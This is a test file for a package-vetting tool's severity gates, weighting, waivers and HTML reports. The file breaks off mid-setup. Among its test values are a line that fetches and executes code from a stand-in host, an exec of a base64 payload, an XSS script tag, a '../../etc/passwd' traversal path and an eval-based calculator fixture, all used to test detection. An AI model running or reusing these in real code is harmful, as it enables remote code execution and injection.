/**
 * The policy (src/policy) and the decide stage: gates, thresholds, weighting,
 * fail closed, every severity a scanner can emit, waivers, and the report.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { before, describe, it } from 'node:test';
import type { Log, Result } from 'sarif';
import { SEVERITIES, Severity } from '../../../src/common';
import {
  GATES,
  IPolicyConfig,
  IPolicyFinding,
  IPolicyItem,
  WAIVER_COLUMNS,
  WAIVERS_FILE,
  evaluate,
  weigh,
  naiveRefuses,
  parseWaivers,
  resolvePolicy
} from '../src/policy';
import { GitLedger } from '../src/ledger';
import { renderHtml, renderMail, renderMarkdown } from '../src/report';
import { runOnce } from '../src/runner';
import { banditJsonToSarif } from '../src/scanners/registry';
import { findingsFromSarif } from '../src/scanners/sarif';
import { applyObservation, emptyObservation } from '../src/scanners/observed';
import { resultRow } from '../src/stages/record';
import type { IFinding, IManifestItem, IScannerRun } from '../src/types';
import type { Workspace } from '../src/workspace';
import {
  addRequests,
  gitSync,
  makeRepo,
  makeWorkspace,
  requestRow,
  results,
  tempDir,
  useVenvScanners
} from './helpers';

const SHA = 'a'.repeat(40);

/**
 * A package whose library function evaluates the string its caller passes: a
 * code-injection sink (semgrep eval-parameter, CWE-95) that counts wherever it
 * is, even though only a call runs it (bandit B307 and semgrep eval-exec, the
 * capability, are lowered there).
 */
function calculatorFiles(): Record<string, string> {
  return {
    'setup.py':
      'from setuptools import setup\n\nsetup(name="calc", version="1.0", py_modules=["calc"])\n',
    'calc.py':
      '"""A calculator that evaluates what it is given."""\n\n\ndef calculate(expression):\n    return eval(expression)\n'
  };
}
const OTHER_SHA = 'b'.repeat(40);

function finding(over: Partial<IPolicyFinding> = {}): IPolicyFinding {
  return {
    scanner: 'bandit',
    ruleId: 'B307',
    severity: 'medium',
    effectiveSeverity: 'medium',
    confidence: 'high',
    message: 'eval',
    path: 'pkg/mod.py',
    line: 3,
    ...over
  };
}

function run(findings: IFinding[], over: Partial<IScannerRun> = {}): IScannerRun {
  return { name: findings[0]?.scanner ?? 'bandit', status: 'ok', durationMs: 1, findings, ...over };
}

function item(runs: IScannerRun[], packageName = 'pkg', commitSha = SHA): IManifestItem {
  return {
    request: requestRow({ package_name: packageName }),
    row: 2,
    key: 'req-1',
    commitSha,
    scanners: runs
  };
}

async function decideOf(
  findings: IFinding[],
  config: { severityThreshold?: string; policy?: IPolicyConfig } = {}
) {
  return evaluate(item([run(findings)]), resolvePolicy(config));
}

function sarif(results: Result[], rules: Log['runs'][0]['tool']['driver']['rules'] = []): Log {
  return { version: '2.1.0', runs: [{ tool: { driver: { name: 'tool', rules } }, results }] };
}

const at = {
  locations: [
    { physicalLocation: { artifactLocation: { uri: 'pkg/mod.py' }, region: { startLine: 7 } } }
  ]
};

describe('policy: every severity a scanner can emit, at the gate', () => {
  const refusesAtMedium: Record<Severity, boolean> = {
    critical: true,
    high: true,
    medium: true,
    low: false,
    info: false
  };

  it('SARIF levels (semgrep, checkov, gitleaks, guarddog): error, warning, note, none', async () => {
    const cases: [string, Severity][] = [
      ['error', 'high'],
      ['warning', 'medium'],
      ['note', 'low'],
      ['none', 'info']
    ];
    for (const [level, severity] of cases) {
      const fs = findingsFromSarif(
        'semgrep',
        sarif([{ ruleId: 'r', level: level as Result['level'], message: { text: 'm' }, ...at }])
      );
      assert.equal(fs[0].severity, severity, level);
      assert.equal(
        (await decideOf(fs)).decision,
        refusesAtMedium[severity] ? 'refused' : 'approved',
        level
      );
    }
  });

  it('security-severity scores (osv-scanner, CVSS): critical 9.8, high 7.5, medium 5.0, low 2.0, none 0', async () => {
    const cases: [string, Severity][] = [
      ['9.8', 'critical'],
      ['7.5', 'high'],
      ['5.0', 'medium'],
      ['2.0', 'low'],
      ['0', 'info']
    ];
    for (const [score, severity] of cases) {
      const log = sarif(
        [{ ruleId: 'GHSA-x', message: { text: 'vuln' }, ...at }],
        [{ id: 'GHSA-x', properties: { 'security-severity': score } }]
      );
      const fs = findingsFromSarif('osv-scanner', log).map(f => ({
        ...f,
        category: 'vulnerability' as const
      }));
      assert.equal(fs[0].severity, severity, score);
      const verdict = await decideOf(fs);
      assert.equal(verdict.decision, refusesAtMedium[severity] ? 'refused' : 'approved', score);
      if (refusesAtMedium[severity]) assert.match(verdict.reason ?? '', /vulnerability gate/);
    }
  });

  it('bandit issue_severity HIGH, MEDIUM, LOW and a CRITICAL word (the original sample forgot it)', async () => {
    for (const [word, severity] of [
      ['CRITICAL', 'critical'],
      ['HIGH', 'high'],
      ['MEDIUM', 'medium'],
      ['LOW', 'low']
    ] as const) {
      const log = sarif([
        {
          ruleId: 'B1',
          message: { text: 'm' },
          properties: { issue_severity: word, issue_confidence: 'HIGH' },
          ...at
        }
      ]);
      const fs = findingsFromSarif('bandit', log);
      assert.equal(fs[0].severity, severity, word);
      const verdict = await decideOf(fs);
      assert.equal(verdict.decision, refusesAtMedium[severity] ? 'refused' : 'approved', word);
      if (severity === 'critical') assert.equal(verdict.counts.critical, 1);
    }
    const json = banditJsonToSarif(
      JSON.stringify({
        results: [
          {
            filename: 'a.py',
            line_number: 1,
            issue_text: 'x',
            issue_severity: 'HIGH',
            issue_confidence: 'MEDIUM',
            test_id: 'B602'
          }
        ]
      })
    );
    assert.equal((await decideOf(findingsFromSarif('bandit', json))).decision, 'refused');
  });

  it('each severity, at each gate and each threshold: refused exactly when at or above the threshold', async () => {
    const categories = [
      'sast',
      'vulnerability',
      'secret',
      'malicious',
      'dynamic',
      'config'
    ] as const;
    for (const category of categories) {
      for (const threshold of SEVERITIES) {
        for (const severity of SEVERITIES) {
          const verdict = await decideOf(
            // A vulnerability sink (yaml.load, CWE-502) inside a function: counted wherever it is.
            [finding({ category, severity, path: 'pkg/mod.py', phase: 'call', ruleId: 'B506' })],
            { severityThreshold: threshold }
          );
          const expected =
            severity !== 'info' && SEVERITIES.indexOf(severity) <= SEVERITIES.indexOf(threshold);
          assert.equal(
            verdict.decision,
            expected ? 'refused' : 'approved',
            `${category} ${severity} at threshold ${threshold}`
          );
        }
      }
    }
  });

  it('an unknown severity word counts as high (fail closed), never as nothing', async () => {
    const verdict = await decideOf([finding({ severity: 'SEVERE' as Severity })]);
    assert.equal(verdict.decision, 'refused');
    assert.match(verdict.drivers[0].note ?? '', /unknown severity/);
  });
});

describe('policy: gates, weighting, fail closed', () => {
  it('has a threshold per gate; severityThreshold stays the default; "off" disables a gate; typos are errors', async () => {
    const p = resolvePolicy({ severityThreshold: 'high' });
    assert.deepEqual(
      GATES.map(g => p.gates[g]),
      GATES.map(() => 'high')
    );
    assert.deepEqual(resolvePolicy({}).gates.sast, 'medium');
    const mediumSast = finding({ category: 'sast' });
    const mediumSecret = finding({
      scanner: 'gitleaks',
      ruleId: 'aws-access-token',
      category: 'secret',
      path: 'pkg/keys.py'
    });
    const policy = { policy: { gates: { sast: 'high' as const } } };
    assert.equal((await decideOf([mediumSast], policy)).decision, 'approved');
    assert.equal((await decideOf([mediumSast, mediumSecret], policy)).decision, 'refused');
    assert.match((await decideOf([mediumSast, mediumSecret], policy)).reason ?? '', /secret gate/);
    assert.equal(
      (await decideOf([finding({ severity: 'critical' })], { policy: { gates: { sast: 'off' } } }))
        .decision,
      'approved'
    );
    assert.equal(
      (
        await decideOf([finding({ severity: 'medium' })], {
          severityThreshold: 'high',
          policy: { threshold: 'medium' }
        })
      ).decision,
      'refused'
    );
    assert.throws(
      () => resolvePolicy({ policy: { gates: { sast: 'hgih' as Severity } } }),
      /gates.sast/
    );
    assert.throws(
      () => resolvePolicy({ policy: { gates: { sats: 'high' } as never } }),
      /unknown gate/
    );
    assert.throws(() => resolvePolicy({ severityThreshold: 'Critical' }), /threshold/);
  });

  it('malicious and dynamic findings share the malicious gate; categories fall back to the scanner', async () => {
    const verdict = await decideOf(
      [finding({ scanner: 'guarddog', ruleId: 'exec-base64', severity: 'high' })],
      { policy: { gates: { sast: 'off' } } }
    );
    assert.equal(verdict.drivers[0].gate, 'malicious');
    const dyn = await decideOf(
      [
        finding({
          scanner: 'dynamic',
          ruleId: 'net-connect',
          category: 'dynamic',
          severity: 'high'
        })
      ],
      { policy: { gates: { malicious: 'off' } } }
    );
    assert.equal(dyn.decision, 'approved');
    const ownRule = await decideOf([
      finding({ scanner: 'semgrep', ruleId: 'repoguard.python.obfuscated-exec', severity: 'high' })
    ]);
    assert.equal(ownRule.drivers[0].gate, 'malicious');
  });

  it("every RepoGuard semgrep rule declares its class (metadata.class), and the policy's table agrees", async () => {
    const { OWN_RULE_CLASSES } = await import('../src/policy/index.js');
    const { RULES_DIR } = await import('../src/scanners/registry.js');
    const { readdir } = await import('node:fs/promises');
    let count = 0;
    for (const file of (await readdir(RULES_DIR)).filter(f => f.endsWith('.yml'))) {
      const text = await readFile(path.join(RULES_DIR, file), 'utf8');
      for (const block of text.split(/\n  - id: /).slice(1)) {
        const id = block.split('\n')[0].trim();
        const declared = /metadata: \{[^}]*\bclass: (\w+)/.exec(block)?.[1];
        assert.ok(declared, `${file} ${id}: no metadata.class`);
        assert.equal(OWN_RULE_CLASSES[id]?.ruleClass, declared, `${file} ${id}`);
        const cwe = /\bcwe: '(CWE-\d+)'/.exec(block)?.[1];
        if (declared === 'vulnerability') assert.equal(OWN_RULE_CLASSES[id].cwe, cwe, `${id} CWE`);
        count++;
      }
    }
    assert.ok(count >= 20, `${count} rules`);
  });

  it('weights: low confidence −1, install +1 (from medium), call-only capabilities −2 (never sinks or malware evidence), lint ≤ low, not installed code −1/−2, confidence floor', async () => {
    const one = async (f: Partial<IPolicyFinding>, config = {}) =>
      (await decideOf([finding(f)], config)).runs[0].findings[0].effectiveSeverity;
    assert.equal(await one({ phase: 'import' }), 'medium');
    assert.equal(await one({ confidence: 'low', phase: 'import' }), 'low');
    assert.equal(await one({ severity: 'medium', phase: 'install' }), 'high');
    assert.equal(
      await one({ severity: 'medium', path: 'setup.py' }),
      'high',
      'setup.py runs at install time'
    );
    assert.equal(
      await one({ severity: 'low', phase: 'install' }),
      'low',
      'a lint-level finding stays low'
    );
    assert.equal(await one({ severity: 'high', phase: 'install' }), 'critical');
    assert.equal(await one({ severity: 'critical', phase: 'install' }), 'critical');
    assert.equal(
      await one({ severity: 'high', phase: 'call' }),
      'low',
      'SAST in code that runs only when called'
    );
    // Malware evidence is never lowered by where it sits; a capability heuristic is.
    assert.equal(
      await one({
        severity: 'high',
        phase: 'call',
        category: 'malicious',
        scanner: 'guarddog',
        ruleId: 'threat-runtime-obfuscation-base64exec'
      }),
      'high',
      'a high guarddog threat inside a function still counts as high'
    );
    assert.equal(
      await one({
        severity: 'high',
        phase: 'call',
        category: 'sast',
        scanner: 'semgrep',
        ruleId: 'repoguard.python.obfuscated-exec'
      }),
      'high',
      'own malware rule inside a function'
    );
    assert.equal(
      await one({
        severity: 'medium',
        phase: 'call',
        category: 'malicious',
        scanner: 'guarddog',
        ruleId: 'capability-process-spawn'
      }),
      'info'
    );
    // Vulnerability sinks count wherever they are in installed code.
    for (const ruleId of ['B506', 'B602', 'B501', 'B608']) {
      assert.equal(
        await one({ severity: 'high', phase: 'call', ruleId }),
        'high',
        `${ruleId} is a vulnerability sink`
      );
    }
    assert.equal(
      await one({
        severity: 'high',
        phase: 'call',
        scanner: 'semgrep',
        ruleId: 'repoguard.python.yaml-unsafe-load'
      }),
      'high'
    );
    assert.equal(
      await one({ severity: 'high', phase: 'call', ruleId: 'B506', path: 'tests/test_load.py' }),
      'low',
      'a sink in tests is not installed'
    );
    assert.equal(
      await one({ severity: 'high', phase: 'not-installed' as never, ruleId: 'B506' }),
      'low',
      'observed not installed'
    );
    // Capabilities: weighed by when they run.
    assert.equal(
      await one({ severity: 'high', phase: 'call', ruleId: 'B402' }),
      'low',
      'import ftplib'
    );
    assert.equal(
      await one({ severity: 'high', phase: 'import', ruleId: 'B402' }),
      'low',
      'an import does nothing by itself'
    );
    assert.equal(
      await one({
        severity: 'high',
        path: 'uv.lock',
        category: 'vulnerability',
        scanner: 'osv',
        phase: 'unknown'
      }),
      'low',
      'a lock file is a development environment'
    );
    // Lint: at most low.
    assert.equal(
      await one({ severity: 'medium', phase: 'import', ruleId: 'B108' }),
      'low',
      'hard-coded tmp path'
    );
    assert.equal(
      await one({ severity: 'high', phase: 'install', ruleId: 'B324' }),
      'low',
      'weak hash'
    );
    // exec of the package's own file (its version file) in setup.py is not code injection.
    assert.equal(
      await one({
        severity: 'medium',
        path: 'setup.py',
        ruleId: 'B102',
        snippet: 'exec(open("src/pkg/_version.py").read(), ns)'
      }),
      'low'
    );
    assert.equal(
      await one({
        severity: 'medium',
        path: 'setup.py',
        ruleId: 'B102',
        snippet: 'exec(urlopen("http://x.invalid").read())'
      }),
      'high',
      'exec of fetched code is not'
    );
    // Secrets: examples in docs, CI upload tokens, source maps are low.
    for (const p of [
      'README.md',
      'PKG-INFO',
      '.github/workflows/release.yml',
      'dist/index.js.map',
      'docs/auth.rst',
      '.travis.yml'
    ]) {
      assert.ok(
        ['low', 'info'].includes(
          await one({
            severity: 'high',
            path: p,
            category: 'secret',
            scanner: 'gitleaks',
            ruleId: 'generic-api-key',
            phase: 'unknown'
          })
        ),
        p
      );
    }
    assert.equal(
      await one({ severity: 'high', phase: 'call', category: 'dynamic', scanner: 'dynamic' }),
      'high',
      'observed behaviour is never lowered'
    );
    assert.equal(
      await one({ severity: 'high', phase: 'call', category: 'secret', scanner: 'gitleaks' }),
      'high'
    );
    assert.equal(
      await one({ severity: 'high', phase: 'call' }, { policy: { callTimeDowngrade: 0 } }),
      'high'
    );
    assert.equal(
      await one({ severity: 'high', path: 'tests/test_mod.py', phase: 'import' }),
      'low'
    );
    assert.equal(
      await one({
        severity: 'high',
        path: 'tests/evil.py',
        category: 'malicious',
        phase: 'import'
      }),
      'medium'
    );
    assert.equal(
      await one({
        severity: 'high',
        path: 'tests/certs/server.key',
        category: 'secret',
        scanner: 'gitleaks',
        phase: 'unknown'
      }),
      'low'
    );
    assert.equal(
      await one({
        severity: 'high',
        path: 'pkg/keys.py',
        category: 'secret',
        scanner: 'gitleaks',
        phase: 'import'
      }),
      'high'
    );
    assert.equal(
      await one({
        severity: 'medium',
        path: '.github/workflows/ci.yml',
        category: 'config',
        scanner: 'checkov',
        phase: 'unknown'
      }),
      'low'
    );
    assert.equal(
      await one({
        severity: 'high',
        path: 'dev-requirements.txt',
        category: 'vulnerability',
        scanner: 'osv',
        phase: 'unknown'
      }),
      'low'
    );
    assert.equal(
      await one({
        severity: 'high',
        path: 'requirements.txt',
        category: 'vulnerability',
        scanner: 'osv',
        phase: 'unknown'
      }),
      'high'
    );
    assert.equal(
      await one({ severity: 'high', path: 'benchmark.py', phase: 'import' }),
      'low',
      'maintainer script'
    );
    assert.ok(
      ['low', 'info'].includes(
        await one({
          severity: 'medium',
          path: 'pkg/stubs/nmap.pyi',
          category: 'malicious',
          scanner: 'guarddog',
          phase: 'unknown'
        })
      ),
      'type stubs never run (a GuardDog capability there: −2)'
    );
    assert.equal(
      await one({ confidence: 'medium', phase: 'import' }, { policy: { confidenceFloor: 'high' } }),
      'info'
    );
    assert.equal(
      await one(
        { confidence: 'low', phase: 'import' },
        { policy: { lowConfidenceDowngrade: false } }
      ),
      'medium'
    );
    assert.equal(
      await one(
        { severity: 'medium', phase: 'install' },
        { policy: { installTimeUpgrade: false } }
      ),
      'medium'
    );
    const srcLayout = await evaluate(
      item([run([finding({ path: 'dummy/keys.py', phase: 'import', severity: 'high' })])]),
      resolvePolicy({}),
      { weigh: { srcLayout: true } }
    );
    assert.equal(
      srcLayout.runs[0].findings[0].effectiveSeverity,
      'low',
      'outside src/ in a src layout'
    );
  });

  it('false-refusal causes of popular packages (issue 12): entropy-only secrets, text heuristics, Django rules outside Django, TypeScript sources, __main__ blocks, observed not-installed files', () => {
    const policy = resolvePolicy({});
    const eff = (f: Partial<IPolicyFinding>, context = {}) =>
      weigh(finding(f), policy, context).effectiveSeverity;
    // gitleaks' entropy rule (UUIDs, identifiers) is reported low; a key format still counts.
    const secret = {
      scanner: 'gitleaks',
      category: 'secret' as const,
      severity: 'high' as Severity,
      phase: 'unknown' as const
    };
    assert.equal(
      eff({
        ...secret,
        ruleId: 'generic-api-key',
        confidence: 'low' as const,
        path: 'pkg/data/examples-1.json'
      }),
      'low'
    );
    assert.equal(
      eff({
        ...secret,
        ruleId: 'aws-access-token',
        confidence: 'high' as const,
        path: 'pkg/settings.py'
      }),
      'high'
    );
    // GuardDog's text heuristics count at install time only.
    const text = {
      scanner: 'guarddog',
      category: 'malicious' as const,
      severity: 'medium' as Severity,
      confidence: 'high' as const
    };
    for (const ruleId of ['threat-runtime-obfuscation-unicode', 'threat-filesystem-read']) {
      assert.equal(
        eff({ ...text, ruleId, path: 'pkg/lexers/apl.py', phase: 'import' }),
        'low',
        ruleId
      );
      assert.equal(eff({ ...text, ruleId, path: 'setup.py', phase: 'install' }), 'high', ruleId);
    }
    // A malicious threat rule is not a text heuristic: at import it counts as rated.
    assert.equal(
      eff({ ...text, ruleId: 'threat-process-download-exec', path: 'pkg/x.py', phase: 'import' }),
      'medium'
    );
    // bandit's Django .extra() rule: an SQL sink where Django is imported, noise elsewhere.
    const extra = {
      scanner: 'bandit',
      ruleId: 'B610',
      severity: 'medium' as Severity,
      confidence: 'medium' as const,
      path: 'pkg/tls.py',
      phase: 'call' as const
    };
    assert.equal(eff(extra, { djangoFiles: new Set(['pkg/orm.py']) }), 'low');
    assert.equal(
      eff({ ...extra, path: 'pkg/orm.py' }, { djangoFiles: new Set(['pkg/orm.py']) }),
      'medium'
    );
    // A .ts source is compiled first, never run, unless the package's entry point is TypeScript.
    const tsSink = {
      scanner: 'semgrep',
      ruleId: 'repoguard.js.child-process-exec',
      severity: 'high' as Severity,
      confidence: 'high' as const,
      path: 'vendor/llhttp/bin/build_wasm.ts',
      phase: 'call' as const
    };
    assert.equal(eff(tsSink), 'low');
    assert.equal(
      eff(tsSink, { typescriptRuns: true }),
      'high',
      'a vulnerability sink counts wherever it runs'
    );
    // Malware evidence in a file observed not to be installed nor run at install: −2, not −1.
    const evidence = {
      scanner: 'guarddog',
      category: 'malicious' as const,
      ruleId: 'threat-process-download-exec',
      severity: 'high' as Severity,
      confidence: 'high' as const,
      path: 'testing/acceptance_test.py'
    };
    assert.equal(eff({ ...evidence, phase: 'not-installed' }), 'medium');
    assert.equal(eff({ ...evidence, phase: 'not-installed', observed: true }), 'low');
    // setup.py exec()s its own version file through pathlib (websockets): not code injection,
    // even with 'socket' in the file's name.
    const versionExec = {
      ruleId: 'B102',
      severity: 'medium' as Severity,
      path: 'setup.py',
      phase: 'install' as const
    };
    assert.equal(
      eff({
        ...versionExec,
        snippet:
          'exec((root_dir / "src" / "websockets" / "version.py").read_text(encoding="utf-8"))'
      }),
      'low'
    );
    assert.equal(eff({ ...versionExec, snippet: 'exec(base64.b64decode(PAYLOAD))' }), 'high');
    // Marking a string as safe HTML (jinja2's Markup) is weighed by when it runs.
    assert.equal(
      eff({ ruleId: 'B704', severity: 'medium' as Severity, phase: 'call' as const }),
      'info'
    );
    // A capability observed to run at import, where the sandbox saw nothing harmful: −1.
    const atImport = { severity: 'medium' as Severity, phase: 'import' as const, observed: true };
    assert.equal(eff(atImport, { quietRun: true }), 'low');
    assert.equal(eff(atImport, { quietRun: false }), 'medium');
    assert.equal(
      eff({ ...atImport, observed: false }, { quietRun: true }),
      'medium',
      'guessed, not observed'
    );
    assert.equal(
      eff({ ...atImport, phase: 'install' }, { quietRun: true }),
      'high',
      'install time is never lowered so'
    );
    assert.equal(
      eff(
        { ...atImport, scanner: 'semgrep', ruleId: 'repoguard.python.obfuscated-exec' },
        { quietRun: true }
      ),
      'medium',
      'malware evidence is not a capability'
    );
    // Install-time evidence is never lowered by the observation of where the file lives.
    assert.equal(
      eff({ ...evidence, path: 'setup.py', phase: 'install', observed: true }),
      'critical'
    );
  });

  it('an observed not-run line of an installed module keeps the __main__ block phase (run as a script only)', () => {
    const observation = {
      ...emptyObservation(),
      ecosystems: ['python' as const],
      platforms: ['linux'],
      files: { 'pkg/lexers/_php_builtins.py': { installed: true, install: [], import: [1, 2, 3] } }
    };
    const [main, body] = applyObservation(
      [
        finding({
          scanner: 'bandit',
          ruleId: 'B202',
          path: 'pkg/lexers/_php_builtins.py',
          line: 3304,
          phase: 'not-installed'
        }),
        finding({
          scanner: 'bandit',
          ruleId: 'B202',
          path: 'pkg/lexers/_php_builtins.py',
          line: 40,
          phase: 'call'
        })
      ],
      observation
    );
    assert.equal(main.phase, 'not-installed');
    assert.equal(main.observed, true);
    assert.equal(body.phase, 'call');
    // Ran at import: whatever the structure said.
    const [ran] = applyObservation(
      [finding({ path: 'pkg/lexers/_php_builtins.py', line: 2, phase: 'not-installed' })],
      observation
    );
    assert.equal(ran.phase, 'import');
  });

  it('licence: denied SPDX ids refuse, an allow list refuses the rest, otherwise the licence does not count', async () => {
    const lic = (id: string) =>
      finding({
        scanner: 'licence',
        ruleId: `licence/${id}`,
        category: 'licence',
        severity: 'info',
        path: 'LICENSE'
      });
    assert.equal((await decideOf([lic('AGPL-3.0-only')])).decision, 'refused');
    assert.match((await decideOf([lic('AGPL-3.0-only')])).reason ?? '', /licence gate/);
    assert.equal((await decideOf([lic('MIT')])).decision, 'approved');
    assert.equal(
      (
        await decideOf([lic('GPL-3.0-only')], {
          policy: { licence: { allow: ['MIT', 'Apache-2.0'] } }
        })
      ).decision,
      'refused'
    );
    assert.equal(
      (await decideOf([lic('mit')], { policy: { licence: { allow: ['MIT'] } } })).decision,
      'approved'
    );
    assert.equal(
      (await decideOf([lic('AGPL-3.0-only')], { policy: { licence: { deny: [] } } })).decision,
      'approved'
    );
  });

  it('fails closed: any scanner missing, crashed or timed out is error, even with nothing found; no scanner is error', async () => {
    for (const status of ['missing', 'crashed', 'timeout'] as const) {
      const verdict = await evaluate(
        item([
          run([]),
          { name: 'gitleaks', status, durationMs: 1, findings: [], message: `gitleaks ${status}` }
        ]),
        resolvePolicy({})
      );
      assert.equal(verdict.decision, 'error', status);
      assert.match(verdict.reason ?? '', /fail closed/);
    }
    assert.equal((await evaluate(item([]), resolvePolicy({}))).decision, 'error');
  });

  it('measures the naive rule (any SAST finding medium+ refuses) beside the policy', async () => {
    const runs = [run([finding({ path: 'tests/test_x.py' }), finding({ severity: 'low' })])];
    assert.equal(naiveRefuses(runs).length, 1);
    assert.equal((await evaluate(item(runs), resolvePolicy({}))).decision, 'approved');
  });
});

describe('waivers', () => {
  const csv = (rows: string[][]) =>
    [WAIVER_COLUMNS.join(','), ...rows.map(r => r.join(','))].join('\n') + '\n';
  const good = [
    'B307',
    'pkg',
    SHA,
    '2099-12-31',
    'INFOSEC-12 eval of a constant',
    'alice@example.com'
  ];

  it('parses valid rows and ignores malformed ones with a reason, never widening', () => {
    const file = parseWaivers(
      csv([
        good,
        ['*', 'pkg', SHA, '2099-12-31', 'all rules', 'mallory'],
        ['B307', '*', SHA, '2099-12-31', 'all packages', 'mallory'],
        ['B307', 'pkg', 'main', '2099-12-31', 'a branch', 'mallory'],
        ['B307', 'pkg', 'abc123', '2099-12-31', 'short sha', 'mallory'],
        ['B307', 'pkg', 'sha256:xyz', '2099-12-31', 'bad hash', 'mallory'],
        ['B307', 'pkg', SHA, '31/12/2099', 'bad date', 'mallory'],
        ['B307', 'pkg', SHA, '2099-02-30', 'no such day', 'mallory'],
        ['B307', 'pkg', SHA, '2099-12-31', 'no approver', ''],
        ['B307', 'pkg', SHA, '2099-12-31'],
        []
      ])
    );
    assert.equal(file.waivers.length, 1);
    assert.equal(file.ignored.length, 9);
    assert.deepEqual(
      file.ignored.map(i => i.line),
      [3, 4, 5, 6, 7, 8, 9, 10, 11]
    );
    assert.match(file.ignored[0].reason, /wildcard/);
    assert.match(file.ignored[3].reason, /covers/);
    assert.match(file.ignored[5].reason, /ISO date/);
    assert.match(file.ignored[7].reason, /approver is empty/);
    assert.match(parseWaivers('rule,package\nB307,pkg\n').ignored[0].reason, /header lacks/);
    assert.deepEqual(parseWaivers(''), { waivers: [], ignored: [] });
  });

  it('applies only to that rule, package and exact commit, before expiry; names the waiver', async () => {
    const { waivers } = parseWaivers(csv([good]));
    const p = resolvePolicy({});
    const now = new Date('2026-11-24T12:00:00Z');
    const judge = (f: IPolicyFinding, pkg = 'pkg', sha = SHA, when = now) =>
      evaluate(item([run([f])], pkg, sha), p, { waivers, now: when });
    const waived = await judge(finding());
    assert.equal(waived.decision, 'approved');
    assert.equal(waived.waivers.length, 1);
    assert.equal(waived.waivers[0].approver, 'alice@example.com');
    assert.equal(waived.runs[0].findings[0].effectiveSeverity, 'info');
    assert.equal(waived.counts.medium, 0);
    assert.equal(
      (await judge(finding(), 'pkg', OTHER_SHA)).decision,
      'refused',
      'new code is not covered'
    );
    assert.equal((await judge(finding({ ruleId: 'B602' }))).decision, 'refused', 'another rule');
    assert.equal((await judge(finding(), 'other')).decision, 'refused', 'another package');
    assert.equal(
      (await judge(finding(), 'PKG')).decision,
      'approved',
      'names compare like PyPI names'
    );
    assert.equal(
      (await judge(finding(), 'pkg', SHA, new Date('2099-12-31T23:59:00Z'))).decision,
      'approved',
      'until the end of the expiry day'
    );
    assert.equal(
      (await judge(finding(), 'pkg', SHA, new Date('2100-01-01T00:00:01Z'))).decision,
      'refused',
      'expired'
    );
  });

  it('a content waiver covers exactly that file content, at any commit', async () => {
    const dir = path.join(await tempDir('rg-waive-'), 'src');
    await mkdir(path.join(dir, 'pkg'), { recursive: true });
    const content = 'def f(x):\n    return eval(x)\n';
    await writeFile(path.join(dir, 'pkg', 'mod.py'), content);
    const hash = createHash('sha256').update(content).digest('hex');
    const { waivers } = parseWaivers(
      csv([['B307', 'pkg', `sha256:${hash}`, '2099-12-31', 'INFOSEC-13', 'bob']])
    );
    const p = resolvePolicy({});
    assert.equal(
      (await evaluate(item([run([finding()])], 'pkg', OTHER_SHA), p, { waivers, sourceDir: dir }))
        .decision,
      'approved'
    );
    await writeFile(path.join(dir, 'pkg', 'mod.py'), content + 'import os\n');
    assert.equal(
      (await evaluate(item([run([finding()])]), p, { waivers, sourceDir: dir })).decision,
      'refused',
      'changed content'
    );
    assert.equal(
      (
        await evaluate(item([run([finding({ path: '../../etc/passwd' })])]), p, {
          waivers,
          sourceDir: dir
        })
      ).decision,
      'refused'
    );
  });
});

describe('report', () => {
  it('groups findings by scanner and severity with file:line and snippet, escapes HTML, names the decision and waivers', async () => {
    const hostile = '<script>alert(1)</script>';
    const findings = [
      finding({
        scanner: 'semgrep',
        ruleId: 'r.high',
        severity: 'high',
        message: hostile,
        snippet: `x = "${hostile}"`
      }),
      finding({ scanner: 'semgrep', ruleId: 'r.low', severity: 'low', path: 'pkg/b.py', line: 9 }),
      finding({ scanner: 'bandit', ruleId: 'B307' })
    ];
    const runs = [
      run(findings.slice(0, 2), { name: 'semgrep' }),
      run(findings.slice(2), { name: 'bandit' })
    ];
    const { waivers } = parseWaivers(
      `${WAIVER_COLUMNS.join(',')}\nB307,pkg,${SHA},2099-12-31,INFOSEC-12 reviewed,alice@example.com\n`
    );
    const verdict = await evaluate(item(runs), resolvePolicy({}), { waivers });
    const it: IPolicyItem = {
      ...item(verdict.runs),
      decision: verdict.decision,
      reason: verdict.reason,
      drivers: verdict.drivers,
      counts: verdict.counts,
      maxSeverity: verdict.maxSeverity,
      waivers: verdict.waivers
    };
    const html = renderHtml(it, 'exec-1');
    assert.doesNotMatch(html, /<script>/);
    assert.match(html, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/);
    assert.match(html, /<h3>semgrep<\/h3>\n<h4 class="sev-high">high \(1\)<\/h4>/);
    assert.match(html, /<code>pkg\/b.py:9<\/code>/);
    assert.match(html, /<pre>x = &quot;&lt;script&gt;/);
    assert.match(html, /INFOSEC-12 reviewed/);
    assert.match(html, /Decision: <strong>refused<\/strong> — refused by the sast gate/);
    const md = renderMarkdown(it, 'exec-1');
    assert.match(md, /### semgrep\n\n#### high \(1\)/);
    assert.match(
      md,
      /## Waivers applied\n\n\| rule .*\n.*\n\| B307 \| pkg \| a{40} \| 2099-12-31 \| alice@example.com \| INFOSEC-12 reviewed/
    );
    assert.doesNotMatch(md, /<script>/);
    assert.match(
      renderMail(it, 'reports/req-1/report.html').text,
      /InfoSec waivers applied:\n {2}- B307/
    );
    assert.match(
      resultRow(it, 'exec-1', '2026-11-24T00:00:00Z').waivers,
      /^B307@pkg \(alice@example.com, until 2099-12-31: INFOSEC-12 reviewed\)$/
    );
  });
});

describe('decide stage with the request repo waivers file (real git, real scanners)', () => {
  let ws: Workspace;
  let rows: Awaited<ReturnType<typeof results>>;
  let logged: string[];

  before(async () => {
    useVenvScanners();
    ws = await makeWorkspace();
    const src = path.join(ws.sourcesDir, 'calc');
    const first = await makeRepo(src, calculatorFiles());
    await writeFile(path.join(src, 'more.py'), 'def more(x):\n    return eval(x)\n');
    gitSync(src, 'add', '-A');
    gitSync(src, 'commit', '--quiet', '-m', 'new code');
    const second = gitSync(src, 'rev-parse', 'HEAD').trim();
    const ledger = GitLedger.local(ws.requestRepo);
    await ledger.append(WAIVERS_FILE, WAIVER_COLUMNS, [
      ...['B307', 'repoguard.python.eval-exec', 'repoguard.python.eval-parameter'].map(rule => ({
        rule_id: rule,
        package_name: 'calc',
        covers: first.sha,
        expires: '2099-12-31',
        reason: 'INFOSEC-7 calculator by design',
        approver: 'infosec@example.com'
      })),
      {
        rule_id: '*',
        package_name: 'calc',
        covers: second,
        expires: '2099-12-31',
        reason: 'everything',
        approver: 'mallory'
      }
    ]);
    await addRequests(ws, [
      requestRow({
        request_id: 'r-waived',
        package_name: 'calc',
        repo_url: first.url,
